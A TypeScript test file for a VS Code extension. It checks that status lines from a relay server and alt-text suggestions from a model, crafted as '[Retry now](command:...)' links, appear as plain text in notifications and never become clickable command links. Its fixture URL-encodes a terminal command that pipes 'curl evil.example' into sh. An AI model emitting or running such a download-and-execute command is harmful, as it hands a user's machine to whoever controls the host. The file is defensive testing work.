// Text a server or a model sends never becomes a link where VS Code shows it. The two paths the
// trust review found (issue 16, finding 1): a relay's streamed status line in the progress
// notification, and the model's words in Write Alt Text's warning, each carrying
// `[label](command:…)`, which VS Code's notifications (parseLinkedText) turn into a link that runs
// the command with its arguments. They must arrive as text, readable, with no such link left.
import assert from 'node:assert/strict';
import { writeAltTextCommand } from '../../src/vscode/commands/writeAltText';
import { placeholderPng } from '../server/placeholderImage';
import { plainForms } from '../support/linkable';
import { drive, finish, prepare, producedTexts, useEnv } from './support/entries';
import { hostileCase } from './support/tally';

const SEND_SEQUENCE =
  'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D';

describe('Reliability: text from a server or a model is never a link', function () {
  this.timeout(20_000);
  const env = useEnv();

  hostileCase(
    'a streamed status line "[Retry now](command:…sendSequence…)" shows in the progress notification as text',
    async () => {
      const e = env();
      const prompt = 'a lighthouse at dusk';
      prepare(e, prompt);
      const hostile = `[Retry now](${SEND_SEQUENCE})`;
      e.server.enqueue({ kind: 'stream', progress: [40], status: [hostile] });
      const outcome = await drive('command', e, prompt, { model: 'gpt-4o-image' });
      assert.equal(outcome.error, undefined, outcome.error?.message);

      const messages = e.rig.ui.reports.flatMap((r) => (r.message === undefined ? [] : [r.message]));
      const status = messages.filter((m) => m.includes('Retry now'));
      assert.ok(status.length > 0, `the status line was shown: ${messages.join(' | ')}`);
      // The words as the relay wrote them, with a space where `](` would have made the link.
      for (const m of status) assert.ok(m.startsWith(`[Retry now] (${SEND_SEQUENCE}) `), m);
      for (const m of [...messages, ...e.rig.ui.shown.map((s) => s.message)]) assert.deepEqual(plainForms(m), [], m);
      finish('streamed status', e, { saved: e.server.lastServedImages() });
    },
  );

  hostileCase('Write Alt Text\'s warning quotes the model\'s "[OK](command:…)" as text', async () => {
    const e = env();
    const doc = e.rig.write('notes/post.md', '# Post\n\n![](cat.png)\n');
    e.rig.write('notes/cat.png', placeholderPng('cat'));
    e.rig.seal();
    e.rig.editors.text = '# Post\n\n![](cat.png)\n';
    e.rig.editors.cursor = e.rig.editors.text.indexOf('cat.png');
    e.rig.editors.snapshot = {
      document: doc,
      languageId: 'markdown',
      selectionText: '',
      selectionEndLine: 2,
      selectionEmpty: true,
      cursorOffset: e.rig.editors.cursor,
    };
    // The editor refuses the edit: the link changed meanwhile, so the suggestion is only quoted.
    e.rig.editors.refuseEdits = true;
    e.server.enqueue({ kind: 'text', text: `[OK](${SEND_SEQUENCE})` });

    await writeAltTextCommand(e.rig.ctx);

    const warnings = e.rig.ui.messages('warn');
    assert.equal(warnings.length, 1, JSON.stringify(e.rig.ui.shown));
    // The model's words as it wrote them (cut to an alt text's length), with a space where `](`
    // would have made the link.
    const quoted =
      'The link changed while its alt text was being written, so nothing was changed. The suggestion was: [OK] (';
    assert.ok(
      warnings[0].startsWith(quoted) && SEND_SEQUENCE.startsWith(warnings[0].slice(quoted.length).replace(/…$/, '')),
      warnings[0],
    );
    assert.deepEqual(plainForms(warnings[0]), []);
    assert.equal(e.rig.editors.text, '# Post\n\n![](cat.png)\n', 'the document is unchanged');
    for (const [where, text] of Object.entries(producedTexts(e)))
      if (where === 'notifications' || where === 'progress notifications')
        assert.deepEqual(plainForms(text), [], where);
    finish('alt text warning', e, { saved: [] });
  });
});
